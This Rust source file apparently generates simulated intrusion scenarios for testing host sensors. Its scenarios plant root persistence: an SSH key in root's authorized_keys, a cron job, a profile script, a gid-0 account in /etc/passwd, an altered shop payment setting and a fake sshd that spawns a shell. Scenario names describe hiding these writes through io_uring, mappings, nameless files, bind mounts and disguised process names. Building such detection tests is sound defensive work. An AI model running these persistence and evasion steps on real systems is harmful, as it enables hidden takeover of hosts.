// SPDX-License-Identifier: Apache-2.0
//! An intruder with a stolen key becomes root and leaves what intruders leave, each time by another way around sensors: none of
//! the files is written by write(2), under its own name, or by a process whose parents are there.

use super::persistence::{people, somewhere, weakness};
use super::{Actor, Material, Names, Plan, Scenario, Step, pace, public_key, step, units};
use crate::random::Random;

pub(super) const URING: Scenario = scenario(
    "evasion-uring",
    "footholds written by io_uring: at once, by a worker of the kernel's, or by a thread that polls",
    |random, material| plan(random, material, &["uring", "uring-worker", "uring-poll"]),
);
pub(super) const MAPPED: Scenario = scenario(
    "evasion-mapped",
    "footholds stored through shared mappings, after the descriptor is closed",
    |random, material| plan(random, material, &["mapped", "mapped-late"]),
);
pub(super) const NAMELESS: Scenario = scenario(
    "evasion-nameless",
    "footholds in files without a name that are linked into place, and a program that is in no directory",
    |random, material| plan(random, material, &["nameless"]),
);
pub(super) const BOUND: Scenario = scenario(
    "evasion-bound",
    "footholds written through bind mounts, in a mount namespace of the intruder's own or in everybody's",
    |random, material| plan(random, material, &["bound-own", "bound"]),
);
pub(super) const DETACHED: Scenario = scenario(
    "evasion-detached",
    "footholds written by processes whose parents are gone, in sessions of their own",
    |random, material| plan(random, material, &["detached"]),
);
pub(super) const DISGUISED: Scenario = scenario(
    "evasion-disguised",
    "footholds written by processes that call themselves sshd, systemd, thymus or a kernel thread; a false sshd with a false login",
    |random, material| plan(random, material, &["as"]),
);

const fn scenario(name: &'static str, about: &'static str, plan: fn(&mut Random, Material<'_>) -> Plan) -> Scenario {
    Scenario { name, about, benign: false, plan }
}

const PROGRAM: &str = include_str!("evasion/evade.pl");
/// Names that nobody suspects.
const KNOWN: [&str; 4] = ["sshd", "systemd", "thymus", "[kworker/0:1]"];

fn plan(random: &mut Random, _: Material<'_>, ways: &[&str]) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "alice");
    let mut units = units();
    let benign = people(random, &mut names, &mut units);
    let mut attack_user = vec![step(Actor::Intruder, "the intruder looks around", "id; sudo -n -l", &[])];
    attack_user[0].technique = Some("T1082");
    let mut attack_root = deeds(random, &mut names, ways);
    random.shuffle(&mut attack_root);
    pace(&mut attack_user, random, 300);
    pace(&mut attack_root, random, 350);
    Plan {
        planted: vec![weak],
        decoys: true,
        escalation,
        source: somewhere(random),
        benign,
        attack_user,
        attack_root,
        units,
        named: vec!["T1098.004", "T1053.003", "T1546.004", "T1136.001", "T1620"],
        ..Plan::default()
    }
}

/// How one file comes to be what the intruder wants.
struct Deed<'a> {
    technique: &'static str,
    title: &'a str,
    /// `new`, `append` or `swap`.
    what: &'a str,
    path: &'a str,
    mode: &'a str,
    text: &'a str,
}

impl Deed<'_> {
    fn by(&self, way: &str, as_whom: &str) -> Step {
        let Self { technique, title, what, path, mode, text } = self;
        let script = if way == "false-sshd" {
            // It lets somebody in, as sshd would, from where the administrator comes from.
            format!(
                "cp /usr/bin/perl /usr/local/sbin/sshd; SSH_CONNECTION='127.0.0.2 50022 127.0.0.1 22' /usr/local/sbin/sshd -e \
                 'if (!fork) {{ exec \"/bin/sh\", \"-c\", $ARGV[0] }} wait' 'echo '\"'\"'{text}'\"'\"' >>{path}; chmod {mode} {path}'"
            )
        } else {
            format!("perl - {way} {what} {path} {mode} '{text}' '{as_whom}' <<'PERL'\n{PROGRAM}PERL")
        };
        let mut paths = vec![*path];
        paths.extend((way == "false-sshd").then_some("/usr/local/sbin/sshd"));
        Step { technique: Some(technique), ..step(Actor::Intruder, title, script, &paths) }
    }
}

fn deeds(random: &mut Random, names: &mut Names, ways: &[&str]) -> Vec<Step> {
    let disguised = ways.contains(&"as");
    let (key, job, profile) = (public_key(random, &names.take()), names.take(), names.take());
    let job = if disguised { "thymus".to_owned() } else { job };
    let when = random.between(1, 20);
    let word: String = random.word(4);
    let uid = random.between(1200, 1900);
    let all = [
        Deed {
            technique: "T1098.004",
            title: "the intruder adds a key to root's",
            what: "append",
            path: "/root/.ssh/authorized_keys",
            mode: "600",
            text: &key,
        },
        Deed {
            technique: "T1053.003",
            title: "the intruder adds a job to /etc/cron.d",
            what: "new",
            path: &format!("/etc/cron.d/{job}"),
            mode: "644",
            text: &format!("*/{when} * * * * root /usr/bin/true"),
        },
        Deed {
            technique: "T1546.004",
            title: "the intruder adds a profile script",
            what: "new",
            path: &format!("/etc/profile.d/{profile}.sh"),
            mode: "644",
            text: &format!("umask 0 # {word}"),
        },
        Deed {
            technique: "T1136.001",
            title: "the intruder adds a line to the accounts",
            what: "append",
            path: "/etc/passwd",
            mode: "644",
            text: &format!("{word}:x:{uid}:0::/:/bin/bash"),
        },
        Deed {
            technique: "T1565.001",
            title: "the intruder alters the settings",
            what: "swap",
            path: "/etc/shop/shop.conf",
            mode: "644",
            text: &format!("pay.shop=pay.{word}"),
        },
    ];
    let mut steps = Vec::new();
    for (number, deed) in all.iter().enumerate() {
        let way = if disguised && number == 0 { "false-sshd" } else { *random.pick(ways) };
        steps.push(deed.by(way, random.pick::<&str>(&KNOWN)));
    }
    if ways.contains(&"nameless") {
        let script = format!("perl - memory new /dev/null 0 0 <<'PERL'\n{PROGRAM}PERL");
        let memory = step(Actor::Intruder, "the intruder runs a program that is in no directory", script, &[]);
        steps.push(Step { technique: Some("T1620"), ..memory });
    }
    steps
}
